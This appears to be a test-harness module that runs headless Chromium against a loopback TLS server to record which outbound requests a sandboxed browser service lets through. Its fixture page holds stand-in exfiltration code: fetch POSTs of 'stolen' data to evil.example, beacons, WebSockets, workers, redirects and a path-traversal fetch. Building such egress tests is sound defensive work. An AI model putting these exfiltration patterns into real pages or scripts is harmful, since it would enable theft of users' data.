// A real browser for the pretended Browser Run, and the pages it finds wherever it goes: all names lead to one TLS server on
// loopback, which keeps who was asked for what. Browser Run's guardrails are not part of it.
import { execFileSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import https from 'node:https';
import net from 'node:net';
import path from 'node:path';

/** A page that tries every way out that a page has. */
const PAGE = `<!doctype html><title>guide</title>
<img src="/guide/good.png"><img src="/private/inside.png"><img src="https://evil.example/image">
<iframe src="https://evil.example/frame"></iframe><iframe src="/guide/inner"></iframe>
<link rel="stylesheet" href="https://evil.example/style"><script src="https://evil.example/script"></script>
<script>
  const quiet = () => {};
  fetch('https://evil.example/fetch', { method: 'POST', body: 'stolen' }).catch(quiet);
  fetch('/guide/../private/fetch').catch(quiet);
  navigator.sendBeacon('https://evil.example/beacon', 'stolen');
  new EventSource('https://evil.example/events');
  try { new WebSocket('wss://evil.example/socket'); } catch { /* Forbidden. */ }
  window.open('https://evil.example/popup');
  const worker = new Blob(["fetch('https://evil.example/worker').catch(() => {}); new WebSocket('wss://evil.example/worker-socket')"], { type: 'text/javascript' });
  new Worker(URL.createObjectURL(worker));
  new Worker('/guide/worker.js');
  navigator.serviceWorker?.register('/guide/service.js').catch(quiet);
  fetch('/guide/good.json').catch(quiet);
  if (location.search === '?away') setTimeout(() => { location.href = 'https://evil.example/away'; }, 50);
</script>`;

function answer(request, response) {
  const { pathname } = new URL(request.url, 'https://x');
  if (pathname === '/guide/moved') return response.writeHead(302, { location: 'https://evil.example/moved' }).end();
  const script = pathname.endsWith('.js');
  response.writeHead(200, { 'content-type': script ? 'text/javascript' : 'text/html', 'access-control-allow-origin': '*' });
  const name = pathname.slice(pathname.lastIndexOf('/') + 1, -3);
  if (script) return response.end(`fetch('https://evil.example/${name}').catch(() => {}); new WebSocket('wss://evil.example/${name}-socket')`);
  return response.end(pathname === '/guide/page' ? PAGE : '<!doctype html><title>another</title>');
}

export async function chromium(program, folder) {
  const [key, cert, profile] = ['key.pem', 'cert.pem', 'profile'].map((name) => path.join(folder, name));
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-subj', '/CN=pages',
    '-keyout', key, '-out', cert], { stdio: 'ignore' });
  const seen = [];
  const pages = https.createServer({ key: fs.readFileSync(key), cert: fs.readFileSync(cert) }, (request, response) => {
    seen.push(`${request.headers.host}${request.url}`);
    answer(request, response);
  });
  pages.on('upgrade', (request, socket) => {
    seen.push(`${request.headers.host}${request.url}`);
    socket.destroy();
  });
  await new Promise((done) => pages.listen(0, '127.0.0.1', done));
  const running = new Set();
  let current = 0;
  // One browser a session, as at Browser Run; a connection goes to the one that was begun last.
  const begin = async () => {
    const browser = spawn(program, [
      '--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--remote-debugging-port=0',
      '--remote-allow-origins=*', `--user-data-dir=${profile}-${running.size}`, '--ignore-certificate-errors',
      '--disable-popup-blocking', `--host-resolver-rules=MAP * 127.0.0.1:${pages.address().port}`, 'about:blank',
    ], { stdio: ['ignore', 'ignore', 'pipe'] });
    running.add(browser);
    const devtools = await new Promise((done, failed) => {
      let said = '';
      browser.stderr.on('data', (data) => {
        said += data;
        const found = /DevTools listening on (ws:\S+)/.exec(said);
        if (found) done(new URL(found[1]));
      });
      browser.on('exit', () => failed(new Error(said.slice(-500))));
    });
    current = Number(devtools.port);
    return devtools.pathname.split('/').pop();
  };
  const front = net.createServer((near) => {
    const far = net.connect(current, '127.0.0.1');
    near.pipe(far).pipe(near);
    near.on('error', () => far.destroy());
    far.on('error', () => near.destroy());
  });
  await new Promise((done) => front.listen(0, '127.0.0.1', done));
  return {
    port: front.address().port,
    begin,
    taken: () => seen.splice(0),
    close: () => {
      pages.close();
      front.close();
      for (const browser of running) browser.kill('SIGKILL');
    },
  };
}
